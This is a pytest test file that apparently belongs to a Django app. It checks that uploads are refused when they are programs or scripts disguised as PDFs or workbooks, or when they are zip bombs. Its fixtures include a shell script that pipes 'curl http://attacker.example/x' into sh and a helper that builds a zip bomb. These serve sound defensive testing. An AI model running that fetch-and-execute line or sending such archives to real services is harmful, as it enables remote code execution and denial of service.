"""One upload check for every upload: evidence, repository documents and register imports
refuse programs dressed as documents and zip bombs, naming the file and the reason."""

import datetime
import io
import time
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from realise.benefits.models import Evidence, Measurement
from realise.core import uploads
from realise.knowledge.models import Document
from realise.knowledge.services import create_document
from realise.reports.models import ImportJob
from realise.reports.register.importing import import_register
from tests.factories import force
from tests.knowledge.makers import pdf_bytes

LAST_MONTH = (datetime.date.today().replace(day=1) - datetime.timedelta(days=1)).replace(day=1)
ELF_PROGRAM = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56 + b"payload"
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"


def zip_bomb(sheet_bytes: int = 30 * 1024 * 1024) -> bytes:
    """A workbook-shaped archive whose sheet is megabytes of one repeated byte: it deflates
    about a thousand to one."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * sheet_bytes)
    return out.getvalue()


def stored_archive(member_bytes: int) -> bytes:
    """A workbook-shaped archive stored without compression (ratio 1)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", bytes(range(256)) * (member_bytes // 256))
    return out.getvalue()


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


# The check itself ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (ELF_PROGRAM, "'report.pdf' is a Linux program, not a document"),
        (SHELL_SCRIPT, "'report.pdf' is a script, not a document"),
    ],
)
def test_a_program_or_script_named_report_pdf_is_refused_whatever_the_client_says(data, reason):
    upload = SimpleUploadedFile("report.pdf", data, content_type="application/pdf")
    with pytest.raises(uploads.FileRefused, match=reason):
        uploads.check_upload(upload, allowed=uploads.EVIDENCE_TYPES)


def test_a_zip_bomb_is_refused_from_its_directory_before_it_is_inflated():
    bomb = zip_bomb()
    assert len(bomb) < 100 * 1024  # tiny on the wire
    started = time.monotonic()
    with pytest.raises(uploads.FileRefused) as refused:
        uploads.check_upload(SimpleUploadedFile("figures.xlsx", bomb))
    assert time.monotonic() - started < 1  # the 30 MB inside was never inflated
    assert "'figures.xlsx' expands to 30.0\xa0MB" in str(refused.value)
    assert "zip bomb" in str(refused.value)


def test_an_archive_expanding_beyond_the_total_limit_is_refused(settings):
    settings.REALISE_UPLOAD_MAX_EXPANDED_BYTES = 512 * 1024
    data = stored_archive(600 * 1024)  # compresses not at all: only the total is wrong
    with pytest.raises(uploads.FileRefused) as refused:
        uploads.check_upload(SimpleUploadedFile("figures.xlsx", data))
    assert str(refused.value) == (
        "'figures.xlsx' expands to 600.0\xa0KB when opened, more than the 512.0\xa0KB "
        "allowed; it has been refused."
    )


def test_a_legitimate_workbook_passes_and_is_typed_by_its_content():
    checked = uploads.check_upload(SimpleUploadedFile("figures.xlsx", stored_archive(4096)))
    assert checked.file_type.code == "xlsx"


def test_parsing_that_runs_too_long_is_stopped():
    stopped = pytest.raises(uploads.ParseTimeout, match="'slow.xlsx' took more than 0.2 seconds")
    with stopped, uploads.time_limit(0.2, "slow.xlsx"):
        time.sleep(2)


# Every way in --------------------------------------------------------------------------------


def post_actual(client, world, upload):
    return client.post(
        f"/benefits/{world.benefit.pk}/actuals/new/",
        {
            "period": LAST_MONTH.strftime("%Y-%m"),
            "force": force("Essex").pk,
            "value": "1250.50",
            "evidence_note": "Ledger extract",
            "evidence_file": upload,
        },
    )


def test_an_evidence_page_upload_of_a_program_named_report_pdf_is_refused(client, world):
    client.force_login(world.bob)
    response = post_actual(
        client, world, SimpleUploadedFile("report.pdf", ELF_PROGRAM, "application/pdf")
    )
    assert response.status_code == 200
    page = response.content.decode()
    assert "report.pdf&#x27; is a Linux program, not a document" in page
    assert not Measurement.objects.exists() and not Evidence.objects.exists()


def test_an_evidence_page_upload_of_a_zip_bomb_is_refused(client, world):
    client.force_login(world.bob)
    response = post_actual(client, world, SimpleUploadedFile("ledger.xlsx", zip_bomb()))
    assert "looks like a zip bomb" in response.content.decode()
    assert not Evidence.objects.exists()


def test_an_evidence_page_upload_of_a_real_pdf_is_kept(client, world):
    client.force_login(world.bob)
    response = post_actual(client, world, SimpleUploadedFile("ledger.pdf", pdf_bytes("4410")))
    assert response.status_code == 302
    assert Evidence.objects.get().file.read().startswith(b"%PDF-")


def test_an_evidence_api_upload_of_a_shell_script_named_report_pdf_is_refused(world):
    from rest_framework.test import APIClient

    measurement = Measurement.objects.create(
        benefit=world.benefit, period=LAST_MONTH, force=force("Essex"), value=1
    )
    client = APIClient()
    client.force_authenticate(world.bob)
    response = client.post(
        "/api/v1/evidence/",
        {
            "measurement": measurement.pk,
            "note": "Ledger",
            "file": SimpleUploadedFile("report.pdf", SHELL_SCRIPT, "application/pdf"),
        },
        format="multipart",
    )
    assert response.status_code == 400
    assert response.json()["file"] == [
        "'report.pdf' is a script, not a document, whatever its name says; it has been refused."
    ]
    assert not Evidence.objects.exists()


def test_a_repository_document_that_is_a_zip_bomb_is_refused(world):
    with pytest.raises(ValidationError) as error:
        create_document(
            user=world.alice,
            upload=SimpleUploadedFile("minutes.xlsx", zip_bomb()),
            collaboration=world.collab,
            kind="closure_report",
            title="Board minutes",
        )
    assert "'minutes.xlsx' expands to 30.0\xa0MB" in error.value.message_dict["file"][0]
    assert not Document.objects.exists()


def test_a_register_upload_that_is_a_zip_bomb_is_refused_by_the_form(client, world):
    client.force_login(world.alice)
    response = client.post(
        "/register/import/", {"file": SimpleUploadedFile("register.xlsx", zip_bomb())}
    )
    assert response.status_code == 200
    assert "looks like a zip bomb" in response.content.decode()
    assert not ImportJob.objects.exists()


def test_a_register_upload_named_xlsx_that_is_a_program_is_refused(client, world):
    client.force_login(world.alice)
    response = client.post(
        "/register/import/", {"file": SimpleUploadedFile("register.xlsx", ELF_PROGRAM)}
    )
    assert "register.xlsx&#x27; is a Linux program" in response.content.decode()
    assert not ImportJob.objects.exists()


def test_the_import_itself_refuses_a_zip_bomb_from_a_file_on_disk(world, tmp_path):
    path = tmp_path / "register.xlsx"
    path.write_bytes(zip_bomb())
    result = import_register(str(path), user=world.alice)
    assert not result.ok
    assert "looks like a zip bomb" in str(result.errors[0])
